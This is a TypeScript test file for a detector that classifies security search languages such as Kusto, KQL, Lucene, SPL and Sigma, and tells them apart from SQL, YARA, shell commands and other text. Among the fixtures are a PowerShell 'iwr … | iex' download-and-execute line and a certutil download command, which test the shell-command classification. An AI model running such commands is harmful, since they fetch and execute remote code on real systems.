import { describe, expect, it } from 'vitest';
import { detect, detectFormat, otherLook } from '../../src/formats/detect';
import { FORMATS } from '../../src/formats/registry';
import { expectLinear } from '../support/linear';

const told = (text: string, path = ''): string => {
  const { format, other } = detect(text, path);
  return format === null ? `nothing: ${other}` : format.id;
};

const SIGMA = 'title: A\nlogsource:\n  product: windows\ndetection:\n  a:\n    b: c\n  condition: a\n';

describe('a file’s ending tells its format', () => {
  it.each([
    ['_Im_Dns(starttime=ago(1h))\n| where DnsQueryTypeName == "TXT"', 'x.kql', 'kusto'],
    ['index=main | stats count by host', 'x.kql', 'kusto'],
    ['process.name: "a" and not user.name: b', 'x.KQL', 'kuery'],
    ['a', 'x.kuery', 'kuery'],
    ['T | where a == 1 | summarize count()', 'x.spl', 'spl'],
    ['hello', 'x.eql', 'eql'],
    ['hello', 'a/b.lucene', 'lucene'],
    ['hello', 'x.csl', 'kusto'],
    ['', 'x.esql', 'esql'],
    ['# T\n```KQL\nDeviceEvents\n| where FileName =~ "a.exe"\n```\n', 'UPPER.MD', 'markdown'],
    ['# T\n```C#\nDeviceProcessEvents\n| where Timestamp > ago(1d)\n| where FileName =~ "a.exe"\n```\n', 'x.md', 'markdown'],
    ['# T\n```spl\nindex=main foo\n```\n', 'x.md', 'markdown'],
    ['# T\n```\nls -la | grep x\n```\n', 'x.md', 'nothing: Markdown without a query'],
    ['title: x\nstages:\n  - a\n', 'x.yml', 'nothing: YAML that is no rule'],
    ['name: CI\non: push\njobs:\n  a: b\n', 'x.yaml', 'nothing: a workflow'],
    ['[project]\nname = "x"\n', 'x.toml', 'nothing: TOML that is no rule'],
    ['[general]\nx = 1\n', 'app.conf', 'nothing: settings that are no saved searches'],
    ['[A search]\nsearch = index=a | stats count\n', 'app.conf', 'savedsearches'],
    ['{"Event": {"System": {"EventID": 1}}}', 'x.json', 'nothing: JSON that is no rule'],
    [SIGMA, 'x.YML', 'sigma'],
    [SIGMA, 'x.txt', 'sigma'],
  ])('%j in %s: %s', (text, path, format) => expect(told(text, path)).toBe(format));
});

describe('a text tells its language', () => {
  it.each([
    // Kusto sources that are no known table
    ['_Im_Dns(starttime=ago(1h), domain_has_any=dynamic(["evil.test"]))\n| where DnsQueryTypeName == "TXT"', 'kusto'],
    ['imAuthentication\n| where EventType == "Logon"\n| summarize c=count() by TargetUsername', 'kusto'],
    ['_GetWatchlist(\'vips\') | where SearchKey == "x"', 'kusto'],
    ['union Dev*, Sec* | where FileName == "x"', 'kusto'],
    ['workspace("a").SecurityEvent | where EventID == 1', 'kusto'],
    ["['My Table'] | where x == 1", 'kusto'],
    ['datatable(a:string)["x"] | where a == "x"', 'kusto'],
    ['afad_parser\n| where MessageType == 2 and Codename == "x"\n', 'kusto'],
    ['let x = 5; T | where y > x', 'kusto'],
    ['print strcat("a", "b")', 'kusto'],
    ['.show tables', 'kusto'],
    ['search "evil.test"', 'kusto'],
    ['search in (SecurityEvent, Syslog) "evil"', 'kusto'],
    ['// a comment\n\nMyTable_CL\n| take 5', 'kusto'],
    // Kibana's language
    ['@timestamp >= "now-1h" and bytes > 1000', 'kuery'],
    ['not (a:1 or b:2)', 'kuery'],
    ['*.name: foo', 'kuery'],
    ['error and not "login failed"', 'kuery'],
    ['not a:1', 'kuery'],
    ['message: "quick brown fox"', 'kuery'],
    ['url.full: http\\://x.y/* and registry.path: HKLM\\\\Software\\\\*', 'kuery'],
    // Lucene
    ['process.name:/a.*/ AND NOT user.name:root', 'lucene'],
    ['+process.name:a -user.name:root', 'lucene'],
    ['count:[1 TO 5}', 'lucene'],
    ['NOT _exists_:title', 'lucene'],
    ['name:/joh?n(ath[oa]n)/', 'lucene'],
    ['quick^2 fox', 'lucene'],
    ['"fox quick"~5', 'lucene'],
    // EQL, ES|QL
    ['process where process.name = "a"', 'eql'],
    ['sequence by host.id\n [process where true]\n [file where true]', 'eql'],
    ['any where ?x', 'eql'],
    ['FROM logs-*', 'esql'],
    ['row a = 1 | eval b = 2', 'esql'],
    ['FROM (FROM a | LIMIT 5), (FROM b) | LIMIT 5', 'esql'],
    ['from a, b metadata _id | where x == 1', 'esql'],
    // SPL
    ['index=main sourcetype=x', 'spl'],
    ['| tstats count from datamodel=Endpoint.Processes', 'spl'],
    ['`sysmon` EventID=1', 'spl'],
    ['| ldapsearch search="(objectClass=user)" attrs="sAMAccountName"', 'spl'],
    ['| set diff [search a=1] [search b=2]', 'spl'],
    ['search foo | stats count by bar', 'spl'],
    ['EventCode=4688 "net.exe" | table host', 'spl'],
    // A rule of Sigma as a program writes it
    ['{"title": "A", "logsource": {"product": "windows"}, "detection": {"a": {"b": "c"}, "condition": "a"}}', 'sigma'],
    // Fields and signs that other products have too
    ['@timestamp:[now-1h TO now] AND process_name:cmd.exe', 'lucene'],
    ['target.ip: 10.0.0.1 and port > 1000', 'kuery'],
    ['index=edr cmdline="*-enc*" process_name=powershell.exe', 'spl'],
    ['T | where target.hostname == "x"', 'kusto'],
    ['process where target.process.name == "x"', 'eql'],
    // A text that begins with characters no one sees
    [`\u200b${SIGMA}`, 'sigma'],
    [`\u200b\n\u2060 ${SIGMA.replaceAll('\n', '\n ')}`, 'sigma'],
    [`\ufeffindex=main | stats count`, 'spl'],
    ['\u2060DeviceEvents | where A == 1', 'kusto'],
    ['\u200b[rule]\nname = "x"\ntype = "query"\nquery = "a:1"', 'elastic'],
    // YAML whose root is indented
    ['  id: x\n  name: y\n  severity: Low\n  query: |\n    T | where a == 1\n', 'sentinel'],
    ['name: x\nid: y\nsearch: index=a\ntype: TTP\n', 'splunk'],
    ['title: x\nlogic: index=a\nlogic_format: Splunk\n', 'anvilogic'],
  ])('%j: %s', (text, format) => expect(told(text)).toBe(format));
});

describe('a text may be nothing of ours', () => {
  it.each([
    ['select a, b from users where id = 1', 'SQL'],
    ['-- note\nSELECT * FROM t;', 'SQL'],
    ['rule Evil { strings: $a = "x" condition: $a }', 'YARA'],
    ['import "pe"\nrule Evil : tag\n{ condition: true }', 'YARA'],
    ['alert tcp any any -> any 80 (msg:"x"; sid:1;)', 'Snort or Suricata'],
    ['MIT License\n\nCopyright (c) 2024\n\nPermission is hereby granted, free of charge', 'a licence'],
    ['name: CI\non:\n  push:\njobs:\n  test:\n    runs-on: x\n', 'a workflow'],
    ['name: x\ndefinition: index=a\ndescription: y\n', 'a macro'],
    ['title: x\ngroup: y\nkind: evtx\nfilter:\n  a: b\n', 'a Chainsaw rule'],
    ['title: x\nkind: mft\nlevel: low\ntimestamp: a\nfilter:\n  FileNamePath: b\n', 'a Chainsaw rule'],
    ['<Event xmlns="x"><System/></Event>', 'XML or HTML'],
    ['{"a": 1}', 'JSON'],
    ['\u0089PNG\r\n\u001a\n\u0000', 'a picture or another binary file'],
    ['This is a letter to you. It says where we met, and who was there.', 'text'],
    ['Note: remember to call Bob: he knows about it and is not to be trusted', 'text'],
    ['https://example.com/a\nhttps://example.com/b', 'text'],
    ['1.2.3.4\n5.6.7.8', 'text'],
    ['import os\nfrom x import y\nprint("a")', 'a program'],
    [
      'powershell -exec bypass -c "iwr(\'http://a.test/b\')|iex"\n\nset "R=C:\\T" && cmd /c a.exe /lockscreenurl:https://b.test/c /eventName:d',
      'commands of a shell',
    ],
    ['C:\\>certutil.exe -urlcache -f https://a.test/b c:d', 'commands of a shell'],
    ['Get-Process | Where-Object { $_.Name -eq "x" } | Select-Object Name', 'text'],
    ['cat a.txt | grep foo | sort | uniq -c', 'commands of a shell'],
    ['journalctl -u sshd | tail', 'commands of a shell'],
    ['@echo off\nset X=5\necho %X%', 'commands of a shell'],
    ['EXPLAIN SELECT * FROM t WHERE a = 1;', 'SQL'],
    ["select first || ' ' || last from people", 'SQL'],
    ['CREATE INDEX i ON t (a);', 'SQL'],
    ['Redistribution and use in source and binary forms, with or without', 'a licence'],
    ['                Apache License\n          Version 2.0', 'a licence'],
    ['FROM ubuntu:22.04\nRUN apt-get update | tee a', 'a Dockerfile'],
    ['FROM python:3.11', 'a Dockerfile'],
    ['resource "x" "y" {\n  query = <<Q\nAzureActivity | where OperationName == "x"\nQ\n}', 'Terraform'],
    ['_sourceCategory=prod/web | parse "user=*," as user | count by user', 'a search of Sumo Logic'],
    ['for host in hosts:\n    if host.name == "a" and host.up:\n        print(host)', 'a program'],
    ['use std::fs;\nlet x = 5;', 'a program'],
    ['$p = Get-Process | Where-Object { $_.Name -eq "x" }', 'a program'],
    ['date=2024-01-05 time=10:00:01 devname="FG" type="traffic"', 'settings or log lines'],
    ['DB_HOST=localhost\nDB_USER=root', 'settings or log lines'],
    ['print this page and keep it', 'text'],
    ['find where the keys are', 'text'],
    ['process where the files are stored: /var/log', 'text'],
    ['C:\\Windows\\System32\\cmd.exe', 'text'],
    ['', 'an empty text'],
    ['all: build\n\tgcc -o x x.c', 'a Makefile'],
    // Searches of products whose languages look like ours
    ['rule a {\n  meta:\n    author = "x"\n  events:\n    $e.metadata.event_type = "X"\n  condition:\n    $e\n}', 'YARA-L'],
    ['metadata.event_type = "PROCESS_LAUNCH" AND principal.hostname = "srv"', 'a search of Google SecOps (UDM)'],
    ['re.regex(principal.process.command_line, `x`) AND metadata.log_type = "W"', 'a search of Google SecOps (UDM)'],
    ['EventType = "Process Creation" AND TgtProcName ContainsCIS "powershell"', 'a search of SentinelOne'],
    ['src.process.name contains:anycase "a" and tgt.file.path contains "Temp"', 'a search of SentinelOne'],
    ['event.type = "Process Creation" | group n = count() by src.process.name | sort -n', 'a search of SentinelOne'],
    ['process_name:a.exe AND (cmdline:-enc OR cmdline:-e) AND -parent_name:b.exe', 'a search of Carbon Black'],
    ['process_name:a.exe netconn_count:[1 TO *]', 'a search of Carbon Black'],
    ['entity:file type:peexe p:5+ tag:signed', 'a search of VirusTotal'],
    ['engines:emotet fs:2024-01-01+ positives:10+', 'a search of VirusTotal'],
    ['source:cloudtrail @evt.name:ConsoleLogin -@userIdentity.type:AWSService', 'a search of Datadog'],
    ['#event_simpleName=ProcessRollup2 | FileName=/a/i | groupBy([ComputerName])', 'a search of CrowdStrike (LogScale)'],
    ["device.hostname:'srv*'+platform_name:'Windows'", 'a search of CrowdStrike Falcon (FQL)'],
    ['(_index=sec_record) | where a="b" | timeslice 1h | count by _timeslice', 'a search of Sumo Logic'],
    ['dataset = xdr_data | filter a = ENUM.PROCESS | fields b', 'a search of Cortex (XQL)'],
    ['fields @timestamp, @message | filter a = "b" | sort @timestamp desc', 'a search of CloudWatch Logs'],
    ['fetch logs | filter loglevel == "ERROR" | summarize count(), by:{host}', 'a search of Dynatrace'],
    ['where(process.name = "a") groupby(hostname)', 'a search of InsightIDR (LEQL)'],
    ["panther_logs.public.aws | where eventName == 'x'", 'a search of PantherFlow'],
    ['ip.addr == 10.0.0.1 && tcp.port == 443', 'a search of Wireshark'],
    ['port:3389 country:US http.title:"Login"', 'a search of Shodan'],
    ['services.service_name: HTTP and services.port: 443', 'a search of Censys'],
    ['services: (service_name: "HTTP" and port: 8080)', 'a search of Censys'],
    ['autonomous_system.asn: 12345 and not location.country: "Russia"', 'a search of Censys'],
    ['from:amy subject:dinner has:attachment', 'a search of Gmail'],
    ['in:inbox is:unread label:work', 'a search of Gmail'],
    ['subject:(invoice OR payment) after:2024/01/01 before:2024/02/01', 'a search of Gmail'],
    ['repo:elastic/detection-rules language:toml path:rules', 'a search of GitHub'],
    ['filename:config.json extension:json api_key', 'a search of GitHub'],
    ['is:issue is:open label:bug author:octocat', 'a search of GitHub'],
    [`[${JSON.stringify({ logsource: {}, detection: { a: 1, condition: 'a' } })}]`, 'several Sigma rules as JSON, of which one a file is read'],
  ])('%j: %s', (text, other) => expect(told(text)).toBe(`nothing: ${other}`));
});

describe('what is told goes before what is guessed', () => {
  const look = (id: string, text: string): string | null => {
    const found = otherLook(text, FORMATS.get(id)!);
    return found === null ? null : (found.format?.id ?? found.other);
  };
  it('a text that looks like another format says so', () => {
    expect(look('kusto', 'index=main | stats count by host')).toBe('spl');
    expect(look('spl', 'DeviceProcessEvents\n| where FileName =~ "a.exe"\n| summarize count() by DeviceName')).toBe('kusto');
    expect(look('sigma', 'select a from b where c = 1')).toBe('SQL');
    expect(look('kuery', SIGMA)).toBe('sigma');
  });
  it('and one that may well be what it is read as does not', () => {
    expect(look('kusto', '_Im_Dns()\n| where a == 1')).toBeNull();
    expect(look('kusto', '')).toBeNull();
    expect(look('lucene', 'a:1 and b:2')).toBeNull();
    expect(look('sigma', SIGMA)).toBeNull();
    expect(look('sigma', 'title: ')).toBeNull();
    expect(look('spl', 'foo')).toBeNull();
  });
  it('there is always a format to read a text in', () => {
    expect(detectFormat('hello').id).toBe('sigma');
    expect(detectFormat('hello', 'a.md').id).toBe('markdown');
    expect(detectFormat('a: b', 'x.yml').id).toBe('sigma');
  });
});

// Each once took hours: blanks and brackets could be shared out among a pattern's parts in as many ways as there are.
it('what a text looks like is told in time, whatever it holds', { retry: 2 }, () => {
  for (const unit of ['()', '// a\n', '\n', ' ', 'a-', 'a.', '\n ', '\t', '(', '"\\', '| '])
    for (const before of ['a', 'T\n', 'from ', 'search a=b ', 'title: a\n'])
      expectLinear(JSON.stringify(before + unit), (length) => detect(before + unit.repeat(length / unit.length), ''), 4_000);
});
